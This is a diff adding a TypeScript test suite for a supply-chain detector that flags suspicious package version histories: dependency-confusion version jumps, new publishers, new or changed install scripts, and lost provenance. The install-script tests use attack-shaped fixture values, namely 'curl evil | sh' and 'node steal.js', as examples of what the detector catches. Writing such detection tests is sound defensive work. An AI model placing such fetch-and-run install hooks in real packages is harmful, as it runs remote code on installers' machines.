@@ -1,0 +1,132 @@
+// Signals in a version history: security holders, implausible jumps, new
+// publishers, new install scripts, lost provenance.
+
+import { suite } from 'uvu'
+import * as assert from 'uvu/assert'
+import type { VersionFacts } from '../../lib/rules/rule.js'
+import {
+  changedInstallScripts,
+  earlierVersions,
+  installScripts,
+  isSecurityHolder,
+  newInstallScript,
+  publisherChange,
+  suspiciousVersionJump,
+  trustDowngrade,
+} from '../../lib/intel/version-signals.js'
+
+function facts(version: string, extra: Partial<VersionFacts> = {}): VersionFacts {
+  return {
+    version,
+    publishedAt: null,
+    publisher: 'alice',
+    scripts: {},
+    hasProvenance: false,
+    hasTrustedPublisher: false,
+    deprecated: null,
+    ...extra,
+  }
+}
+
+const signals = suite('version-signals')
+
+signals('isSecurityHolder', () => {
+  assert.ok(isSecurityHolder('0.0.1-security'))
+  assert.ok(isSecurityHolder('0.0.1-security.0'))
+  assert.ok(isSecurityHolder('1.0.0', 'security holding package'))
+  assert.ok(isSecurityHolder('1.0.0', 'Security Holding Package for crossenv'))
+  assert.not.ok(isSecurityHolder('0.0.1'))
+  assert.not.ok(isSecurityHolder('1.0.0-securityfix'))
+  assert.not.ok(isSecurityHolder('1.0.0', 'a security tool'))
+  assert.not.ok(isSecurityHolder('1.0.0', null))
+})
+
+signals('suspiciousVersionJump: dependency-confusion shapes', () => {
+  const cases: Array<[string, string[], ReturnType<typeof suspiciousVersionJump>]> = [
+    ['99.0.0', ['1.0.0', '1.2.3'], { from: '1.2.3', to: '99.0.0', reason: 'major-jump-to-99' }],
+    ['100.1.0', ['4.17.21'], { from: '4.17.21', to: '100.1.0', reason: 'major-jump-to-99' }],
+    ['60.0.0', ['1.0.0', '5.9.0'], { from: '5.9.0', to: '60.0.0', reason: 'major-jump-tenfold' }],
+    ['50.0.0', ['0.3.0'], { from: '0.3.0', to: '50.0.0', reason: 'major-jump-tenfold' }],
+    ['9.9.9', ['1.0.0'], { from: '1.0.0', to: '9.9.9', reason: 'nines-placeholder' }],
+    ['99.99.99', ['98.0.0'], { from: '98.0.0', to: '99.99.99', reason: 'nines-placeholder' }],
+    ['99.0.0', ['49.2.0'], { from: '49.2.0', to: '99.0.0', reason: 'major-jump-to-99' }],
+    ['999.0.0', ['120.0.0'], { from: '120.0.0', to: '999.0.0', reason: 'major-jump-to-99' }],
+    ['999.1.0', ['500.0.0'], { from: '500.0.0', to: '999.1.0', reason: 'nines-placeholder' }],
+    ['99.0.0', [], { from: null, to: '99.0.0', reason: 'first-release-at-99' }],
+    ['9.9.9', [], null],
+    ['1.0.0', [], null],
+  ]
+  for (const [version, previous, expected] of cases) {
+    assert.equal(suspiciousVersionJump(version, previous), expected, `${version} after ${previous.join(', ')}`)
+  }
+})
+
+signals('suspiciousVersionJump: ordinary releases', () => {
+  const cases: Array<[string, string[]]> = [
+    ['2.0.0', ['1.9.9']],
+    ['120.0.0', ['119.0.1']], // browser-versioned packages (chromedriver)
+    ['49.0.0', ['4.0.0']], // tenfold but below 50
+    ['60.0.0', ['7.0.0']], // above 50 but less than tenfold
+    ['9.9.9', ['9.9.8']], // a nines shape reached by releasing
+    ['1.0.0', ['99.0.0']], // not above the previous
+    ['99.0.0', ['99.0.0', '98.0.0']], // the version itself in the list; 98 → 99 is a step
+    ['99.0.0', ['50.0.0']],
+    ['not-semver', ['1.0.0']],
+  ]
+  for (const [version, previous] of cases) {
+    assert.is(suspiciousVersionJump(version, previous), null, `${version} after ${previous.join(', ')}`)
+  }
+})
+
+signals('publisherChange', () => {
+  const history = [facts('1.0.0', { publisher: 'alice' }), facts('1.1.0', { publisher: 'bob' }), facts('1.2.0', { publisher: null })]
+  assert.equal(publisherChange(facts('1.3.0', { publisher: 'mallory' }), history), { publisher: 'mallory', previousPublishers: ['bob', 'alice'] })
+  assert.is(publisherChange(facts('1.3.0', { publisher: 'alice' }), history), null)
+  assert.is(publisherChange(facts('1.3.0', { publisher: null }), history), null, 'unknown publisher')
+  assert.is(publisherChange(facts('1.0.0', { publisher: 'mallory' }), []), null, 'first version')
+  assert.is(publisherChange(facts('1.3.0', { publisher: 'mallory' }), [facts('1.0.0', { publisher: null })]), null, 'no earlier publisher known')
+})
+
+signals('newInstallScript and changedInstallScripts', () => {
+  const before = facts('1.0.0', { scripts: { test: 'node test', install: 'node-gyp rebuild' } })
+  const after = facts('1.0.1', { scripts: { test: 'node test', install: 'node-gyp rebuild', postinstall: 'node steal.js', prepare: 'husky' } })
+  assert.equal(newInstallScript(after, before), ['postinstall'])
+  assert.equal(newInstallScript(before, before), [])
+  assert.equal(newInstallScript(after, null), [], 'a first release adds nothing')
+  assert.equal(newInstallScript(facts('2.0.0', { scripts: { preinstall: '  ' } }), before), [], 'blank scripts do not count')
+  assert.equal(changedInstallScripts(facts('1.0.2', { scripts: { install: 'curl evil | sh' } }), before), ['install'])
+  assert.equal(changedInstallScripts(after, before), [])
+  assert.equal(installScripts(after), ['install', 'postinstall'])
+})
+
+signals('trustDowngrade', () => {
+  const history = [
+    facts('1.0.0'),
+    facts('1.1.0', { hasProvenance: true, hasTrustedPublisher: true }),
+    facts('1.2.0', { hasProvenance: true }),
+  ]
+  assert.equal(trustDowngrade(facts('1.3.0'), history), [
+    { signal: 'provenance', lastVersionWith: '1.2.0', versionsWithoutSince: 0 },
+    { signal: 'trusted-publisher', lastVersionWith: '1.1.0', versionsWithoutSince: 1 },
+  ])
+  assert.equal(trustDowngrade(facts('1.3.0', { hasProvenance: true, hasTrustedPublisher: true }), history), [])
+  assert.equal(trustDowngrade(facts('1.3.0', { hasProvenance: true }), history).map((downgrade) => downgrade.signal), ['trusted-publisher'])
+  assert.equal(trustDowngrade(facts('1.0.1'), [facts('1.0.0')]), [], 'never had it')
+  assert.equal(trustDowngrade(facts('1.0.0'), []), [])
+})
+
+signals('earlierVersions by publish time, or by list order when times are missing', () => {
+  const at = (iso: string) => new Date(iso)
+  const all = [
+    facts('1.0.0', { publishedAt: at('2024-01-01') }),
+    facts('2.0.0', { publishedAt: at('2024-03-01') }),
+    facts('1.0.1', { publishedAt: at('2024-04-01') }), // a backport after 2.0.0
+    facts('2.1.0', { publishedAt: at('2024-05-01') }),
+  ]
+  assert.equal(earlierVersions(all[2], all).map((item) => item.version), ['1.0.0', '2.0.0'])
+  assert.equal(earlierVersions(all[0], all), [])
+  const untimed = all.map((item) => ({ ...item, publishedAt: null }))
+  assert.equal(earlierVersions(untimed[2], untimed).map((item) => item.version), ['1.0.0', '2.0.0'])
+})
+
+signals.run()
